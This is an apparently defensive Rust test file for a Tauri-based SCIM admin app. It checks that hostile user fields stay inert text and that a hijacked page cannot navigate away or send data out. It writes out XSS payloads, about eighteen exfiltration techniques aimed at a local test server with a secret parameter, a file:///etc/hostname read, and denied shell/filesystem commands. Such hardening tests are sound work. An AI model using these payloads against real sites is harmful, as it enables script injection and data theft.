//! What a hostile server says is text, and a page that was taken over could still go nowhere.

use rollcall_tests::{CANARY, Hostile, Http, PASSPHRASE, Sandbox};
use serde_json::json;

use crate::desk::{Desk, Keychain};
use crate::main_job::add_connection;
use crate::page::{CONTROL, ENTER, ESCAPE, Page};

const PEOPLE: usize = 20;
const TAG: &str = "<img src=x onerror=window.__pwned=1>";
/// Turns the direction of everything after it, unless it is kept inside.
const OVERRIDE: &str = "\u{202e}nimda\u{2066}";
const SCRIPT: &str = "<script>window.__pwned=2</script><svg onload=window.__pwned=3>";

fn hostile_person(sandbox: &Sandbox) {
    let http = Http::new(sandbox.base(), format!("Bearer {CANARY}"));
    let reply = http.post(
        "/Users",
        &json!({
            "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
            "userName": "mallory@example.net",
            "displayName": format!("{TAG}{OVERRIDE}"),
            "name": { "givenName": SCRIPT, "familyName": OVERRIDE },
            "title": "{0} ${alert(1)} javascript:window.__pwned=4",
            "nickName": TAG,
            "profileUrl": "javascript:window.__pwned=5",
            "emails": [{ "value": format!("{TAG}@example.net"), "type": "work" }],
        }),
    );
    assert_eq!(reply.status, 201, "the server keeps anything: {:?}", reply.body);
}

#[track_caller]
fn is_text(page: &Page<'_>, place: &str) {
    // The JSON editor puts an empty image of its own beside each mark it shows.
    let made = page.run(
        "return document.querySelectorAll('img:not(.cm-widgetBuffer), script:not([src]), iframe, object, svg[onload]').length",
        &[],
    );
    assert_eq!(made, 0, "{place}: no element came out of a value");
    assert_eq!(
        page.run("return window.__pwned ?? null", &[]),
        json!(null),
        "{place}: nothing of it ran"
    );
    let loose = page.run(
        "const loose = [];
         const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
         while (walk.nextNode()) {
           const parent = walk.currentNode.parentElement;
           if (/[\\u202a-\\u202e\\u2066-\\u2069]/.test(walk.currentNode.data) && !parent.closest('bdi, input, textarea, pre')
             && !/isolate|plaintext/.test(getComputedStyle(parent).unicodeBidi)) loose.push(parent.outerHTML);
         }
         return loose",
        &[],
    );
    assert_eq!(
        loose,
        json!([]),
        "{place}: a value's direction stays inside the value"
    );
}

fn shows_text(page: &Page<'_>) {
    page.counts(PEOPLE + 1);
    page.write("Search", "mallory");
    page.until("the search narrows the list", |_| page.row_count() == 1);
    page.says(TAG);
    is_text(page, "the list");
    page.click("row", TAG);
    page.find("heading", TAG);
    is_text(page, "the details");
    page.click("tab", "JSON");
    page.says("javascript:window.__pwned=5");
    is_text(page, "the JSON");
    page.click("tab", "Profile");
    page.edit("Job title", SCRIPT);
    is_text(page, "the changes that wait");
    page.keys(&[CONTROL, "s"]);
    page.find("dialog", "Review 1 change");
    page.says("PATCH");
    is_text(page, "the review");
    page.keys_of("Send", &[CONTROL, ENTER]);
    page.says("every change is stored");
    is_text(page, "the outcome and the message");
    page.keys_of("Close", &[CONTROL, ENTER]);
    page.gone("dialog", "Review");
    page.rewrite("Search", TAG);
    is_text(page, "the search");
    page.press("SCIM filter");
    page.write("SCIM filter", &format!("displayName eq \"{TAG}{ENTER}"));
    page.find("alert", "Place");
    is_text(page, "the fault of a filter");
    page.keys(&[ESCAPE]);
}

fn goes_nowhere(page: &Page<'_>, elsewhere: &Hostile) {
    page.nothing_was_refused_by_the_policy();
    let there = format!("http://127.0.0.1:{}/?secret=1", elsewhere.port());
    let ways = [
        "location.href = url",
        "location.assign(url)",
        "location.replace(url)",
        "window.__opened = window.open(url)",
        "const a = document.createElement('a'); a.href = url; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
        "const a = document.createElement('a'); a.href = url; a.ping = url; document.body.append(a); a.click(); a.remove()",
        "const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit(); f.remove()",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + url; document.head.append(m); m.remove()",
        "const f = document.createElement('iframe'); f.src = url; document.body.append(f); f.remove()",
        "new Image().src = url",
        "fetch(url).catch(() => {})",
        "navigator.sendBeacon?.(url)",
        "new WebSocket(url.replace('http', 'ws'))",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l); l.remove()",
        "document.body.style.backgroundImage = `url(${url})`; document.body.style.backgroundImage = ''",
        "import(url).catch(() => {})",
        "location.href = 'data:text/html,<p>x</p>'",
        "location.href = 'file:///etc/hostname'",
    ];
    for way in ways {
        let script =
            format!("const url = arguments[0]; try {{ {way} }} catch (e) {{ /* refused at once */ }}");
        page.run(&script, &[json!(there)]);
        // A round trip to the engine: what the page wanted has been decided by then.
        page.rpc("settings", &json!(null)).expect("the page still works");
        let here = page.run("return location.protocol + '//' + location.host", &[]);
        assert_eq!(
            here, "tauri://localhost",
            "the page stays where it is after: {way}"
        );
    }
    assert_eq!(
        page.run("return window.__opened ?? null", &[]),
        json!(null),
        "no second window opens"
    );
    let eval = "try { return new Function('return 1')() } catch { return 'refused' }";
    assert_eq!(page.run(eval, &[]), "refused", "text never becomes a program");
    let html = "try { document.createElement('p').innerHTML = '<b>x</b>'; return 'taken' } catch { return 'refused' }";
    assert_eq!(page.run(html, &[]), "refused", "text never becomes elements");
    assert_eq!(
        page.run("return Object.isFrozen(Object.prototype)", &[]),
        true,
        "what everything inherits is frozen"
    );
    let refused = page.forget_refusals();
    assert!(
        refused.as_array().is_some_and(|all| !all.is_empty()),
        "the policy was at work, and the listener heard it"
    );
}

fn commands_are_closed(page: &Page<'_>) {
    for command in [
        "delete_all",
        "plugin:window|set_title",
        "plugin:window|theme",
        "plugin:webview|create_webview",
        "plugin:dialog|open",
        "plugin:fs|read_file",
        "plugin:shell|open",
        "plugin:event|emit",
        "plugin:app|version",
        "plugin:path|resolve",
    ] {
        let refused = page.invoke(command, &json!({})).expect_err(command);
        assert!(
            refused.contains("not allowed") || refused.contains("not found"),
            "{command} is denied by the list, not by chance: {refused}"
        );
    }
    for command in [
        "delete_everything",
        "",
        "__proto__",
        "secrets",
        "connection_list; drop",
    ] {
        let refused = page.rpc(command, &json!(null)).expect_err(command);
        assert!(
            refused.contains("\"code\""),
            "an unknown name is an error of the contract: {refused}"
        );
    }
    // A declared command that changes something wants what only a person's confirmation gives.
    let connections = page
        .rpc("connection_list", &json!(null))
        .expect("the connections");
    assert!(
        !connections.to_string().contains(CANARY),
        "no answer holds the token"
    );
    let invented = json!({ "connection": connections[0]["id"], "review": "00000000-0000-4000-8000-000000000000", "confirmation": null });
    page.rpc("change_apply", &invented)
        .expect_err("a change nobody reviewed");
    page.rpc(
        "job_start",
        &json!({ "job": 1, "run": { "first": null, "confirmation": null } }),
    )
    .expect_err("a job nobody planned");
}

#[test]
fn hostile_content_stays_text_and_a_page_that_was_taken_over_goes_nowhere() {
    let sandbox = Sandbox::with_people(PEOPLE);
    hostile_person(&sandbox);
    let elsewhere = Hostile::answering("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    let desk = Desk::new();
    desk.sit_down(Keychain::NoBus, |page| {
        page.write("Passphrase", PASSPHRASE);
        page.write("Passphrase, again", PASSPHRASE);
        page.press("Set the passphrase");
        page.press("Connect to a server");
        add_connection(page, "Mallory's", &sandbox.base());
        shows_text(page);
        sandbox.reset();
        goes_nowhere(page, &elsewhere);
        commands_are_closed(page);
        assert_eq!(sandbox.writes(), 0, "none of it changed anything");
        page.holds_no_secret();
    });
    assert_eq!(elsewhere.requests(), 0, "nothing was carried away");
    desk.holds_no_secret();
}
